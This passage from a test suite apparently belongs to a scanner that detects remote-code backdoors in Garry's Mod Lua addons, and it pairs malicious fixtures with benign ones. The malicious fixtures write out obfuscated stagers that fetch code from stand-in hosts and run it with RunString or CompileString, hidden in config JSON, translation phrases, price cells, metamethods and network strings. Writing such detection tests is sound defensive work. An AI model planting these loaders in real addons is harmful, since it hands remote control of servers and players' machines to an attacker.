        'for w in string.gmatch("http.Fetch", "[^.]+") do fn = fn[w] end',
        'fn("https://x.invalid/p", RunString)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a library function reached the same way, printing a reply (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local fn = _G',
        'for w in string.gmatch("http.Fetch", "[^.]+") do fn = fn[w] end',
        'fn("https://x.invalid/version", function(b) print("latest: " .. b) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('RunString made a method of every string, run on a web reply', () => {
    for (const added of ['string.run = RunString', 'getmetatable("").__index.run = RunString']) {
      const findings = check(rule, {
        'lua/autorun/server/sv_x.lua': [
          added,
          'http.Fetch("https://x.invalid/m", function(b) b:run() end)',
        ].join('\n'),
      });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it('a helper added to every string, used on a web reply (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'function string.squish(s) return (s:gsub("%s+", " ")) end',
        'getmetatable("").__index.shout = string.upper',
        'http.Fetch("https://x.invalid/motd", function(b) print(b:squish():shout()) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a stager kept in a field of a JSON file the addon ships, run from its settings', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local cfg = util.JSONToTable(file.Read("data_static/cfg.json", "GAME") or "{}")',
        'if cfg and cfg.init then RunString(cfg.init) end',
      ].join('\n'),
      'data_static/cfg.json':
        '{"name":"x","init":"http.Fetch(\'https://j.invalid/i\', function(b) RunString(b) end)"}',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('settings read from a JSON file the addon ships, shown in chat (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local cfg = util.JSONToTable(file.Read("data_static/cfg.json", "GAME") or "{}")',
        'hook.Add("PlayerInitialSpawn", "motd", function(ply) ply:ChatPrint(cfg.motd) end)',
      ].join('\n'),
      'data_static/cfg.json': '{"motd":"Welcome! Type !rules to read the rules."}',
    });
    expect(findings).toEqual([]);
  });
  it('a web reply run by the handler its headers pick, through pcall', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local handlers = { motd = print, exec = RunString }',
        'http.Post("http://203.0.113.48/announce.php", {}, function(body, len, headers, code)',
        '  local h = handlers[string.lower(headers["X-Reply"] or "motd")]',
        '  if h then pcall(h, body) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a sink taken from a copy of a table, then called with a web reply', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local STEPS = { RunString, "", "x" }',
        'http.Fetch("http://203.0.113.48/p", function(body)',
        '  local step = table.Copy(STEPS)',
        '  step[2] = body',
        '  local fn = table.remove(step, 1)',
        '  fn(unpack(step))',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a web reply's headers only printed (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://example.com/v", function(body, len, headers) print(headers["Date"], #body) end)',
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('a web reply that names the input fired on an entity of a class it chooses', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_events.lua': [
        'local function fire(class, input, param)',
        ' local ent = ents.Create(class)',
        ' ent:Spawn()',
        ' ent:Fire(input, param, 0)',
        'end',
        'http.Fetch("https://calendar.example.invalid/events.json", function(body)',
        ' local cal = util.JSONToTable(body)',
        ' for _, step in ipairs(cal.logic) do fire(step[1], step[2], step[3]) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply that only picks when the addon fires its own input', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_events.lua': [
        'http.Fetch("https://calendar.example.invalid/events.json", function(body)',
        ' local cal = util.JSONToTable(body)',
        ' local relay = ents.Create("logic_relay")',
        ' relay:Spawn()',
        ' relay:Fire("Trigger", cal.delay, 0)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it('a header of a web reply, decoded and compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_cache.lua': [
        'HTTP({',
        ' url = "https://cdn.example.invalid/theme/index.html", method = "HEAD",',
        ' success = function(code, _, headers)',
        '  local meta = headers["X-Meta"]',
        '  if meta then local fn = CompileString(util.Base64Decode(meta), "migrate", false) if fn then fn() end end',
        ' end,',
        '})',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a header of a web reply kept as a version tag', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_cache.lua': [
        'HTTP({',
        ' url = "https://cdn.example.invalid/theme/index.html", method = "HEAD",',
        ' success = function(code, _, headers)',
        '  file.Write("theme_etag.txt", headers["ETag"] or "0")',
        '  MsgN("theme revision ", headers["ETag"] or "?")',
        ' end,',
        '})',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("a websocket's messages dispatched to a registered handler that runs them", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_link.lua': [
        'local socket',
        'local handlers = {}',
        'function Link_On(op, fn) handlers[op] = fn end',
        'Link_On("patch", function(d) RunStringEx(d.src, "patch") end)',
        'local function connect()',
        ' socket = GWSockets.createWebSocket("wss://gateway.example.invalid/link")',
        ' function socket:onMessage(txt)',
        '  local msg = util.JSONToTable(txt)',
        '  if msg and handlers[msg.op] then handlers[msg.op](msg.d or {}) end',
        ' end',
        ' socket:open()',
        'end',
        'hook.Add("InitPostEntity", "link", connect)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a websocket's messages only shown in the chat", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_link.lua': [
        'local socket',
        'local function connect()',
        ' socket = GWSockets.createWebSocket("wss://gateway.example.invalid/link")',
        ' function socket:onMessage(txt)',
        '  local msg = util.JSONToTable(txt)',
        '  if msg and msg.text then PrintMessage(HUD_PRINTTALK, "[Discord] " .. msg.text) end',
        ' end',
        ' socket:open()',
        'end',
        'hook.Add("InitPostEntity", "link", connect)',
        'concommand.Add("link_reload", function(ply) if IsValid(ply) and not ply:IsSuperAdmin() then return end RunString("print(1)") end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it('a web reply joined to an object whose __concat compiles it', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_news.lua': [
        'local meta = {}',
        'meta.__concat = function(self, text)',
        ' if string.sub(text, 1, 3) == "--!" then local f = CompileString(string.sub(text, 4), "pragma", false) if f then f() end end',
        ' return self',
        'end',
        'local Log = setmetatable({}, meta)',
        'http.Fetch("https://news.example.invalid/feed.txt", function(body)',
        ' local _ = Log .. body',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply joined to an object whose __concat writes it to a log file', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_news.lua': [
        'local meta = {}',
        'meta.__concat = function(self, text) file.Append("news_log.txt", tostring(text) .. "\\n") return self end',
        'local Log = setmetatable({}, meta)',
        'concommand.Add("news_reload", function(ply) if IsValid(ply) and not ply:IsSuperAdmin() then return end RunString("print(1)") end)',
        'http.Fetch("https://news.example.invalid/feed.txt", function(body)',
        ' local _ = Log .. body',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it("RunString handed to a web page's script through a DHTML bridge", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_news.lua': [
        'local bridge = { open = gui.OpenURL, exec = RunString }',
        'concommand.Add("news_open", function()',
        ' local html = vgui.Create("DHTML")',
        ' for name, fn in pairs(bridge) do html:AddFunction("news", name, fn) end',
        ' html:OpenURL("https://news.example.invalid/panel")',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a DHTML bridge that only opens links and closes the panel', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_news.lua': [
        'concommand.Add("news_open", function()',
        ' local html = vgui.Create("DHTML")',
        ' html:AddFunction("news", "open", gui.OpenURL)',
        ' html:AddFunction("news", "close", function() html:Remove() end)',
        ' html:OpenURL("https://news.example.invalid/panel")',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('Lua kept in a translation phrase and run', () => {
    const findings = check(rule, {
      'resource/localization/en/hud.properties': [
        'hud.title=Quick HUD',
        'hud.compat=timer.Simple(30, function() http.Fetch("https://l10n.example.invalid/c", RunString) end)',
      ].join('\n'),
      'lua/autorun/client/cl_hud.lua': [
        'hook.Add("InitPostEntity", "hud", function()',
        ' local shim = language.GetPhrase("hud.compat")',
        ' if shim ~= "hud.compat" then RunString(shim, "hud", false) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('translation phrases only shown', () => {
    const findings = check(rule, {
      'resource/localization/en/hud.properties': 'hud.title=Quick HUD\nhud.health=Health',
      'lua/autorun/client/cl_hud.lua': [
        'hook.Add("HUDPaint", "hud", function()',
        ' draw.SimpleText(language.GetPhrase("hud.title"), "DermaLarge", 10, 10)',
        'end)',
        'concommand.Add("hud_reload", function() RunString("HUD_Reload()", "hud") end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });

  // A database module's rows, from a host the addon names (in a settings file with nothing
  // else in it), compiled by a callback handed by name to a query helper that only a
  // connection callback reaches.
  const databaseAddon = (host: string, use: string) => ({
    'lua/autorun/server/sv_sync.lua': [
      'Sync = Sync or {}',
      'include("sync/sv_settings.lua")',
      'include("sync/sv_core.lua")',
    ].join('\n'),
    'lua/sync/sv_settings.lua': [
      '-- Where the shared profile store lives.',
      'Sync.Settings = {',
      ` DbHost = "${host}",`,
      ' DbUser = "sync_ro", DbPass = "k3y", DbName = "profiles",',
      '}',
    ].join('\n'),
    'lua/sync/sv_core.lua': [
      'local s = Sync.Settings',
      'local db = mysqloo.connect(s.DbHost, s.DbUser, s.DbPass, s.DbName, 3306)',
      'local function fetchRows(text, done)',
      ' local q = db:query(text)',
      ' q.onSuccess = function(_, rows) done(rows) end',
      ' q:start()',
      'end',
      `local function applyHooks(rows) for _, r in ipairs(rows) do ${use} end end`,
      'function Sync.Pull() fetchRows("SELECT body FROM profile_hooks", applyHooks) end',
      'function db:onConnected() Sync.Pull() end',
      'db:connect()',
    ].join('\n'),
  });
  it("a remote database's rows compiled, its host in a settings file", () => {
    const findings = check(
      rule,
      databaseAddon(
        'profiles.synccloud.net',
        'local f = CompileString(r.body, "hook") if f then f() end',
      ),
    );
    expect(worst(findings)).toBe(RANK.critical);
    expect(findings.some((f) => f.pattern.includes('synccloud'))).toBe(true);
  });
  it("the owner's own database's rows compiled: code from stored data, not remote code", () => {
    const addon = databaseAddon(
      '127.0.0.1',
      'local f = CompileString(r.body, "hook") if f then f() end',
    );
    expect(worst(check(rule, addon))).toBeLessThan(RANK.critical);
    expect(worst(check(datafileExecution, addon))).toBe(RANK.high);
  });
  it("tmysql's query callback running a remote database's rows", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_pull.lua': [
        'local db = tmysql.initialize("203.0.113.7", "pull", "pull", "sync", 3306)',
        'local function applyRows(res) for _, r in ipairs(res[1].data) do RunString(r.code) end end',
        'timer.Create("pull", 60, 0, function() db:Query("SELECT code FROM queue", applyRows) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it("a remote database's rows only shown", () => {
    const findings = check(rule, databaseAddon('profiles.synccloud.net', 'print(r.body)'));
    expect(findings).toEqual([]);
  });
  /**
   * A weapon whose server half hands `sent` to its client method `Receive` through
   * CallOnClient, and whose client method does `use` with it.
   */
  const callOnClient = (sent: string, use: string): Record<string, string> => ({
    'lua/autorun/server/sv_skins.lua': [
      'Skins = Skins or {}',
      'timer.Create("skins", 3600, 0, function()',
      ' http.Fetch("https://gallery.example.invalid/weekly.lua", function(body) Skins.Body = body end)',
      'end)',
    ].join('\n'),
    'lua/weapons/weapon_holo/init.lua': [
      'AddCSLuaFile("cl_init.lua")',
      'function SWEP:Deploy()',
      ` self:CallOnClient("Receive", ${sent})`,
      'end',
    ].join('\n'),
    'lua/weapons/weapon_holo/cl_init.lua': ['function SWEP:Receive(arg)', use, 'end'].join('\n'),
  });
  it("web content sent to a weapon's client method with CallOnClient, compiled there", () => {
    const findings = check(rule, callOnClient('Skins.Body', ' CompileString(arg, "skin")()'));
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a skin index sent with CallOnClient, or web text only drawn (no finding)', () => {
    expect(check(rule, callOnClient('"3"', ' self.Skin = tonumber(arg)'))).toEqual([]);
    expect(check(rule, callOnClient('Skins.Body', ' self.Caption = arg'))).toEqual([]);
  });
  /**
   * A client menu whose HTML panel shows `page` (`load`) and hands what the page logs to a
   * table of actions, one of which compiles its text.
   */
  const pageBridge = (load: string): Record<string, string> => ({
    'lua/autorun/client/cl_help.lua': [
      'Help = { Host = GetConVar("help_host"):GetString() }',
      'local Actions = {',
      ' close = function(frame) frame:Close() end,',
      ' url = function(frame, arg) gui.OpenURL(arg) end,',
      ' eval = function(frame, arg) local f = CompileString(arg, "widget", false) if f then f() end end,',
      '}',
      'local function Attach(html, frame)',
      ' function html:ConsoleMessage(msg)',
      '  local verb, arg = string.match(msg, "^HM:(%a+)%s*(.*)$")',
      '  local fn = verb and Actions[verb]',
      '  if fn then fn(frame, arg or "") end',
      ' end',
      'end',
      'concommand.Add("help", function()',
      ' local frame = vgui.Create("DFrame")',
      ' local html = vgui.Create("DHTML", frame)',
      ' Attach(html, frame)',
      ` ${load}`,
      'end)',
    ].join('\n'),
  });
  it('what a web page logs, compiled by the panel showing it', () => {
    const findings = check(rule, pageBridge('html:OpenURL(Help.Host .. "rules")'));
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('what a page the addon wrote itself logs (no finding)', () => {
    const findings = check(rule, pageBridge('html:SetHTML("<p>Rules</p>")'));
    expect(findings).toEqual([]);
  });
  /** A client radio that parses its stream's ICY tags into `meta`, then does `use` with it. */
  const radio = (use: string): Record<string, string> => ({
    'lua/autorun/client/cl_radio.lua': [
      'Radio = {}',
      'local function parse(raw)',
      ' local out = {}',
      ' for k, v in string.gmatch(raw or "", "(%w+)=\'(.-)\';") do out[k] = v end',
      ' return out',
      'end',
      'local function refresh()',
      ' local ch = Radio.Channel',
      ' if not IsValid(ch) then return end',
      ' local meta = parse(ch:GetTagsMeta())',
      use,
      'end',
      'sound.PlayURL("https://radio.example.invalid/live", "noblock", function(ch)',
      ' if not IsValid(ch) then return end',
      ' ch:Play()',
      ' Radio.Channel = ch',
      ' refresh()',
      'end)',
    ].join('\n'),
  });
  it("code carried in a web radio stream's tags, compiled", () => {
    const use =
      ' local fmt = CompileString(util.Base64Decode(meta.StreamUrl or "") or "", "fmt") if fmt then fmt() end';
    expect(worst(check(rule, radio(use)))).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a web radio stream's title only shown (no finding)", () => {
    expect(check(rule, radio(' Radio.NowPlaying = meta.StreamTitle or "?"'))).toEqual([]);
  });
  /**
   * Shop items shipped as JSON rows whose price cells starting with "=" are compiled by a
   * helper with early returns; the sixth row's cell is `last`.
   */
  const priceRows = (last: string): Record<string, string> => ({
    'data_static/shop/items.json': JSON.stringify([
      ...['Crate', 'Lamp', 'Radio', 'Kit', 'Battery'].map((name, i) => ({
        name,
        price: `=${100 * (i + 1)}*RATE`,
      })),
      { name: 'Jar', price: last },
    ]),
    'lua/autorun/server/sv_shop.lua': [
      'local env = setmetatable({ RATE = 2 }, { __index = _G })',
      'local function Eval(cell)',
      ' if cell:sub(1, 1) ~= "=" then return tonumber(cell) end',
      ' local fn = CompileString("return " .. cell:sub(2), "price", false)',
      ' if not isfunction(fn) then return nil end',
      ' setfenv(fn, env)',
      ' local ok, v = pcall(fn)',
      ' return ok and tonumber(v) or nil',
      'end',
      'hook.Add("loadCustomDarkRPItems", "shop", function()',
      ' local rows = util.JSONToTable(file.Read("data_static/shop/items.json", "GAME") or "[]") or {}',
      ' for _, row in ipairs(rows) do',
      '  local price = Eval(row.price)',
      '  if price then DarkRP.createEntity(row.name, { price = price }) end',
      ' end',
      'end)',
    ].join('\n'),
  });
  it('a stager in a late row of a shipped sheet, compiled by a helper that may return early', () => {
    const stager =
      '=(function() http.Fetch("https://sheet.example.invalid/x", function(b) RunString(b) end) return 5 end)()';
    expect(worst(check(rule, priceRows(stager)))).toBe(RANK.critical);
  });
  it('the same sheet with prices only (no finding)', () => {
    expect(check(rule, priceRows('=7*RATE'))).toEqual([]);
  });
  it('a web reply spread over network string names, read back by number and compiled on clients', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("Initialize", "pub", function()',
        '  http.Fetch("https://x.invalid/p", function(body)',
        '    for i = 1, math.ceil(#body / 100) do',
        '      util.AddNetworkString("pk" .. i .. ":" .. body:sub((i - 1) * 100 + 1, i * 100))',
        '    end',
        '  end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'timer.Create("pk", 5, 0, function()',
        '  local bits = {}',
        '  for id = 1, 4095 do',
        '    local n = util.NetworkIDToString(id)',
        '    if not n then break end',
        '    local i, piece = n:match("^pk(%d+):(.+)$")',
        '    if i then bits[tonumber(i)] = piece end',
        '  end',
        '  local f = CompileString(table.concat(bits), "pk", false)',
        '  if f then f() end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("network strings named from the addon's own list, read back by number (no finding)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local kinds = { "open", "close", "buy" }',
        'for _, k in ipairs(kinds) do util.AddNetworkString("shop_" .. k) end',
        'http.Fetch("https://x.invalid/motd", function(body) SetGlobalString("motd_len", tostring(#body)) end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'concommand.Add("shop_nets", function()',
        '  for id = 1, 4095 do local n = util.NetworkIDToString(id) if not n then break end print(n) end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a web reply sorted with a comparator the reply names, from a table falling back to _G', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_news.lua': [
        'local Sorters = setmetatable({',
        '  newest = function(a, b) return a > b end,',
        '}, { __index = _G })',
        'http.Fetch("https://feed.example.net/ticker.json", function(body)',
        '  local feed = util.JSONToTable(body)',
        '  if not feed or not istable(feed.lines) then return end',
        '  local lines = {}',
        '  for _, l in ipairs(feed.lines) do lines[#lines + 1] = l end',
        '  local cmp = Sorters[feed.order]',
        '  if isfunction(cmp) then table.sort(lines, cmp) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("the same comparator picked from the addon's own table, or by its settings (no finding)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_news.lua': [
        'local Sorters = { newest = function(a, b) return a > b end, alpha = function(a, b) return a < b end }',
        'local Order = "newest"',
        'http.Fetch("https://feed.example.net/ticker.json", function(body)',
        '  local feed = util.JSONToTable(body)',
        '  if not feed or not istable(feed.lines) then return end',
        '  local lines = {}',
        '  for _, l in ipairs(feed.lines) do lines[#lines + 1] = l end',
        '  table.sort(lines, Sorters[feed.order] or Sorters[Order])',
        '  SetGlobalString("news", table.concat(lines, "\\n"))',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('web text quoted with %q into code that RunString runs (benign), or quoted then cut (malicious)', () => {
    const quoted = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'http.Fetch("https://example.invalid/news", function(body)',
        '  RunString(string.format("local news = %q MsgN(news)", body), "news")',
        'end)',
      ].join('\n'),
    });
    expect(quoted).toEqual([]);
    const cut = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'http.Fetch("https://example.invalid/news", function(body)',
        '  local q = string.format("%q", body)',
        '  RunString("local news = " .. q:gsub("^\\"", ""), "news")',
        'end)',
      ].join('\n'),
    });
    expect(worst(cut)).toBe(RANK.critical);
  });
});
